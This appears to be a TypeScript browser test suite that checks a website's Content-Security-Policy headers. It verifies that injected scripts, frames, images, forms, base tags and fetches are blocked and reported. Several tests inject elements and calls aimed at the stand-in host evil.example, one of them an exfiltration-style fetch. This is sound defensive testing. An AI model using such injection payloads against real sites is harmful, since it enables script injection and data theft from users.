import { fixedSite } from "../fixed-site/fixed-site";

const site = fixedSite();

/** The policy that an address is served with, by directive. */
async function policyOf(path: string): Promise<Record<string, string>> {
  const { headers } = await fetch(site.url + path);
  const policy = headers.get("content-security-policy") ?? "";
  return Object.fromEntries(policy.split("; ").map((one) => [one.split(" ")[0], one]));
}

test.each(["/about", "/no-such-page"])("%s carries the policy of the site", async (path) => {
  expect(await policyOf(path)).toMatchObject({
    "default-src": "default-src 'self'",
    "script-src": expect.stringMatching(/^script-src 'self'(?: 'sha256-[\w+/=]+')+$/),
    "connect-src": "connect-src 'self'",
    "object-src": "object-src 'none'",
    "base-uri": "base-uri 'none'",
    "form-action": "form-action 'self'",
    "frame-ancestors": "frame-ancestors 'none'",
    "report-uri": "report-uri /csp-report",
  });
  const frames = (await policyOf(path))["frame-src"]?.split(" ").slice(1).sort();
  expect(frames).toEqual(["'self'", "https://films.example", "https://www.google.com"]);
});

test("the badge's frame has a policy of its own: its host's script in a sandbox, and nothing of ours", async () => {
  expect(await policyOf("/badge.html")).toMatchObject({
    "default-src": "default-src 'none'",
    "script-src": expect.stringMatching(/^script-src 'sha256-[\w+/=]+' https:\/\/badge\.example$/),
    "connect-src": "connect-src https://badge.example",
    "form-action": "form-action 'none'",
    "frame-ancestors": "frame-ancestors 'self'",
    sandbox: "sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox",
  });
});

test("a script that was injected does not run, and the host is told", async () => {
  const { page } = await site.open("/about", { mayComplain: true });
  const report = page.waitForRequest(`${site.url}/csp-report`);
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
  });
  expect((await report).method()).toBe("POST");
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
});

test("nothing else that is injected runs, loads, calls or leads elsewhere", async () => {
  const asked: string[] = [];
  const { page } = await site.open("/about", {
    mayComplain: true,
    before: (_, context) =>
      context.route(/evil\.example/, (route) => {
        asked.push(route.request().url());
        return route.abort();
      }),
  });
  const refused = await page.evaluate(async () => {
    const make = (name: string, attributes: Record<string, string>) => () => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
      if (element instanceof HTMLFormElement) element.submit();
    };
    const attempts = [
      make("script", { src: "https://evil.example/x.js" }),
      make("img", { src: "/favicon.svg", onload: "window.ran = true" }),
      make("iframe", { src: "https://evil.example/" }),
      make("img", { src: "https://evil.example/x.png" }),
      make("object", { data: "https://evil.example/x" }),
      make("form", { action: "https://evil.example/" }),
      make("base", { href: "https://evil.example/" }),
      () => {
        fetch("https://evil.example/?what=typed").catch(() => undefined);
      },
    ];
    const seen: string[] = [];
    for (const attempt of attempts) {
      const refusal = new Promise<SecurityPolicyViolationEvent>((resolve) =>
        document.addEventListener("securitypolicyviolation", resolve, { once: true }),
      );
      attempt();
      seen.push((await refusal).effectiveDirective);
    }
    return seen;
  });
  expect(refused).toEqual([
    "script-src-elem",
    "script-src-attr",
    "frame-src",
    "img-src",
    "object-src",
    "form-action",
    "base-uri",
    "connect-src",
  ]);
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  expect(asked).toEqual([]);
});

test("the badge's script calls no host but its own", async () => {
  const asked: string[] = [];
  const spy = `document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      document.getElementById("iasBadge").insertAdjacentHTML("beforeend", "<b>Refused: " + effectiveDirective + "</b>");
    });
    fetch("https://evil.example/").catch(() => {});`;
  const { page } = await site.open("/about", {
    mayComplain: true,
    before: (_, context) =>
      context.route(/(?:badge|evil)\.example/, (route) => {
        asked.push(route.request().url());
        return route.fulfill({ contentType: "text/javascript", body: spy });
      }),
  });
  await page.clock.runFor(10_000);
  await page.getByRole("contentinfo").scrollIntoViewIfNeeded();
  await page.getByRole("contentinfo").frameLocator("iframe").getByText("Refused: connect-src").waitFor();
  expect(asked).toEqual(["https://badge.example/badge.js"]);
});
